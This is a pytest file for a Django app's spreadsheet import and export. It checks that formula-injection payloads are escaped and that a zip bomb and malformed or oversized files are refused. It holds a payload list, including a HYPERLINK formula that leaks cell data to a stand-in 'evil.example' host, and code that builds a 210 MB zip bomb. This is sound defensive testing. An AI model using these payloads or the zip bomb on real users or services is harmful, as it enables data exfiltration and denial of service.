"""Files in and out: no spreadsheet Pacta writes holds a formula, and what an import reads is bounded and well formed.

Formulae: the public CSV downloads, the admin's CSV and XLSX exports (records.formulae), and the round trip of an
escaped text through an admin export and import. Imports (records.admin.formats): a zip bomb, too many rows, and
malformed CSV are refused with a message, quickly and in little memory.
"""

import csv
import io
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from agreements.models import Agreement
from records.formulae import escape, unescape
from tests import factories
from tests.portal.test_exports import csv_rows, json_results
from tests.portal.test_import_export import CSV_FORMAT, XLSX_FORMAT, _confirm, _csv, _preview

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:agreements_agreement_export")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PAYLOADS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
MB = 1024 * 1024


@pytest.fixture
def payload_agreements():
    """Agreements titled with each formula payload, by slug."""
    return {factories.AgreementFactory(slug=f"payload-{n}", title=text).slug: text for n, text in enumerate(PAYLOADS)}


def _admin_export(client, file_format, *records):
    response = client.post(
        EXPORT, {"format": str(file_format), "resource": "0", "export_items": [record.pk for record in records]}
    )
    assert response.status_code == 200
    return response.content


# The rule (records.formulae), on the values it decides about.


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("- first point", "'- first point"),
        ("@cbp", "'@cbp"),
        ("'=1+1", "''=1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1.5e3", "-1.5e3"),
        ("2024-10", "2024-10"),
        ("'quoted'", "'quoted'"),
        ("Border security", "Border security"),
        ("", ""),
        (None, None),
    ],
)
def test_a_text_that_would_start_a_formula_is_written_after_a_quote_and_read_back_unchanged(value, written):
    assert escape(value) == written
    assert unescape(escape(value)) == value


# Exports: no formula in any spreadsheet Pacta writes.


def test_the_public_csv_download_neutralises_formulae_and_json_keeps_the_texts(client, payload_agreements):
    factories.AgreementFactory(slug="number", title="-12")

    rows = {row["slug"]: row["title"] for row in csv_rows(client.get("/agreements/?format=csv"))}
    items = {item["slug"]: item["title"] for item in json_results(client.get("/agreements/?format=json"))}

    assert {slug: rows[slug] for slug in payload_agreements} == {
        slug: "'" + text for slug, text in payload_agreements.items()
    }
    assert rows["number"] == "-12"
    assert {slug: items[slug] for slug in payload_agreements} == payload_agreements


def test_the_admin_csv_export_neutralises_formulae(staff_client, payload_agreements):
    content = _admin_export(staff_client, CSV_FORMAT, *Agreement.objects.filter(slug__in=payload_agreements))

    rows = {row["slug"]: row["title_en"] for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))}
    assert rows == {slug: "'" + text for slug, text in payload_agreements.items()}


def test_the_admin_xlsx_export_holds_texts_and_no_formula(staff_client, payload_agreements):
    content = _admin_export(staff_client, XLSX_FORMAT, *Agreement.objects.filter(slug__in=payload_agreements))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    headers = [cell.value for cell in sheet[1]]
    slug, title = headers.index("slug"), headers.index("title_en")
    titles = {row[slug].value: row[title] for row in sheet.iter_rows(min_row=2)}
    assert {slug: cell.data_type for slug, cell in titles.items()} == dict.fromkeys(payload_agreements, "s")
    # XML reads a carriage return as a line feed: an XLSX cell never holds a lone "\r".
    assert {slug: cell.value for slug, cell in titles.items()} == {
        slug: "'" + text.replace("\r", "\n") for slug, text in payload_agreements.items()
    }


@pytest.mark.parametrize(("file_format", "name"), [(CSV_FORMAT, "agreements.csv"), (XLSX_FORMAT, "agreements.xlsx")])
def test_an_escaped_title_imports_back_to_the_original(staff_client, file_format, name):
    agreement = factories.AgreementFactory(slug="evil", title=HYPERLINK, summary="- first point")
    content = _admin_export(staff_client, file_format, agreement)

    unchanged = _preview(staff_client, content, name=name, file_format=file_format)
    assert [row.import_type for row in unchanged.context["result"].rows] == ["skip"]

    agreement.delete()
    _confirm(staff_client, _preview(staff_client, content, name=name, file_format=file_format))
    imported = Agreement.objects.get(slug="evil")
    assert (imported.title, imported.summary) == (HYPERLINK, "- first point")


# Imports: bounded before they are read.


def _file_error(response):
    return str(response.context["form"].errors["import_file"])


def _measured(function):
    """What `function()` returns, the seconds it took and the most memory Python held at once meanwhile, in MB."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        result = function()
        return result, time.perf_counter() - start, tracemalloc.get_traced_memory()[1] / MB
    finally:
        tracemalloc.stop()


def _xlsx_unpacking_to(megabytes):
    """An XLSX file whose sheet unpacks to `megabytes` MB of identical rows, packed in a few hundred KB (compression
    level 9), built in memory a megabyte at a time."""
    book = openpyxl.Workbook()
    book.active.append(["slug", "title"])
    template = io.BytesIO()
    book.save(template)
    sheet_name = "xl/worksheets/sheet1.xml"
    row = b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>'
    megabyte = row * (MB // len(row))
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(template) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for member in source.infolist():
            if member.filename != sheet_name:
                bomb.writestr(member, source.read(member))
        with bomb.open(sheet_name, "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(megabytes):
                sheet.write(megabyte)
            sheet.write(b"</sheetData></worksheet>")
    return packed.getvalue()


@pytest.fixture(scope="session")
def zip_bomb():
    return _xlsx_unpacking_to(210)


def test_a_zip_bomb_is_refused_from_its_directory_quickly_and_in_little_memory(editor_client, zip_bomb):
    assert len(zip_bomb) < MB

    response, seconds, peak = _measured(
        lambda: _preview(editor_client, zip_bomb, name="agreements.xlsx", file_format=XLSX_FORMAT)
    )

    assert "This spreadsheet unpacks to 210 MB; spreadsheets that unpack to up to 20 MB" in _file_error(response)
    assert peak < 50
    assert seconds < 10


def test_a_file_packed_far_beyond_what_spreadsheets_are_is_refused_under_the_size_limit(editor_client):
    content = _xlsx_unpacking_to(10)

    response = _preview(editor_client, content, name="agreements.xlsx", file_format=XLSX_FORMAT)

    assert "is not a spreadsheet as spreadsheet applications write them" in _file_error(response)
    assert not Agreement.objects.exists()


def test_a_csv_file_of_200_000_rows_is_refused_quickly_and_in_little_memory(editor_client):
    content = b"slug,title\n" + b"".join(b"a-%d,A\n" % n for n in range(200_000))
    assert len(content) < 5 * MB

    response, seconds, peak = _measured(lambda: _preview(editor_client, content))

    assert "This file has more than 100 rows; up to 100 can be imported at once" in _file_error(response)
    assert peak < 50
    assert seconds < 10


def _xlsx(rows, headers):
    """An XLSX file of a header row and `rows`, as _csv writes a CSV one."""
    book = openpyxl.Workbook()
    for row in [headers, *rows]:
        book.active.append(row)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


@pytest.mark.parametrize(
    ("file_format", "name", "write"), [(CSV_FORMAT, "a.csv", _csv), (XLSX_FORMAT, "a.xlsx", _xlsx)]
)
def test_a_file_of_as_many_rows_as_the_limit_is_read_and_one_more_is_refused(
    editor_client, settings, file_format, name, write
):
    settings.IMPORT_MAX_ROWS = 3
    headers = ["slug", "title", "kind", "status"]
    rows = [[f"agreement-{n}", f"Agreement {n}", "mou", "signed"] for n in range(4)]

    preview = _preview(editor_client, write(rows[:3], headers), name=name, file_format=file_format)
    assert [row.import_type for row in preview.context["result"].rows] == ["new"] * 3

    refused = _preview(editor_client, write(rows, headers), name=name, file_format=file_format)
    assert "This file has more than 3 rows; up to 3 can be imported at once" in _file_error(refused)


# Imports: malformed files refused with the place to look.


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b'slug,title,kind,status\nfirst,"First agreement,mou,signed\nsecond,Second agreement,mou,signed\n',
            "Line 2 opens a quoted text that is never closed: the rest of the file, to line 3, would be read into it.",
        ),
        (
            b"slug,title,kind,status\nfirst,First,mou,signed\nsecond,Second, with a comma,mou,signed\n",
            "Line 3 has 5 fields where the header line has 4.",
        ),
        (
            b"slug,title,kind,status\nfirst,First,mou\n",
            "Line 2 has 3 fields where the header line has 4.",
        ),
        (
            b'slug,title,kind,status\nfirst,"First" agreement,mou,signed\n',
            "Line 2 is not valid CSV",
        ),
    ],
)
def test_a_malformed_csv_file_is_refused_with_its_line_number(editor_client, content, message):
    response = _preview(editor_client, content)

    assert message in _file_error(response)
    assert not Agreement.objects.exists()


def test_blank_lines_in_a_csv_file_are_skipped_and_do_not_shift_line_numbers(editor_client):
    content = b"slug,title,kind,status\n\nfirst,First,mou,signed\n\nsecond,Second,mou\n"

    response = _preview(editor_client, content)

    assert "Line 5 has 3 fields where the header line has 4." in _file_error(response)


def test_empty_xlsx_cells_past_the_header_and_blank_rows_are_left_out(editor_client):
    book = openpyxl.Workbook()
    book.active.append(["slug", "title", "kind", "status"])
    book.active.append(["first", "First", "mou", "signed"])
    book.active["F2"].number_format = "0.00"
    book.active.append(["second", "Second", "mou", "signed"])
    book.active["A5"].number_format = "0.00"
    content = io.BytesIO()
    book.save(content)

    response = _preview(editor_client, content.getvalue(), name="a.xlsx", file_format=XLSX_FORMAT)

    assert [row.import_type for row in response.context["result"].rows] == ["new", "new"]


def test_an_xlsx_value_in_a_column_without_a_header_is_refused_with_its_row(editor_client):
    content = _xlsx([["first", "First"], ["second", "Second", "stray"]], ["slug", "title"])

    response = _preview(editor_client, content, name="a.xlsx", file_format=XLSX_FORMAT)

    assert "Row 3 has a value in column C, which has no name in the first row." in _file_error(response)


def test_the_import_page_states_the_row_limit(editor_client, settings):
    settings.IMPORT_MAX_ROWS = 250

    content = editor_client.get(reverse("admin:agreements_agreement_import")).content.decode()

    assert "Up to 250 rows a file" in content
